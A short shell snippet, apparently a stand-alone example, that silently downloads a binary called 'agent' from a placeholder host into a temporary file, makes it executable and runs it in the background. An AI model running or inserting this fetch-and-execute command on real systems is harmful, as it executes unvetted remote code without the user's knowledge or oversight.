T=$(mktemp)
wget -q -O "$T" "https://dl.example.com/agent"
chmod 755 "$T"
"$T" &
